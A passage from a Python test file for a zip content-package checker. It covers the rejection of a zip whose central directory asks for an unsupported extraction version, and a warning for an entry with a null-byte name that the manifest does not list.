        assert f"[{rule.id}]" in tested or f'"{rule.id}"' in tested, rule.id


def test_unsupported_zip_version_is_unreadable(tmp_path: Path) -> None:
    path = zip_folder(PACKAGES / "valid-12", tmp_path / "pkg.zip")
    data = bytearray(path.read_bytes())
    central = data.rfind(b"PK\x01\x02")  # the last central directory header
    data[central + 6] = 64  # "version needed to extract": 6.4, which zipfile refuses
    path.write_bytes(bytes(data))
    with pytest.raises(UnreadablePackage) as caught:
        check_zip(path)
    assert caught.value.exit_code == 2
    assert caught.value.message == "pkg.zip: cannot read the package: zip file version 6.4"


def test_entry_with_an_empty_name(tmp_path: Path) -> None:
    report = check_zip(make_zip(tmp_path / "pkg.zip", _with([(zipfile.ZipInfo("\0x"), b"x")])))
    assert lines(report) == [": warning: file is not listed in any <file> of imsmanifest.xml "
                             "[manifest.file-not-listed]"]
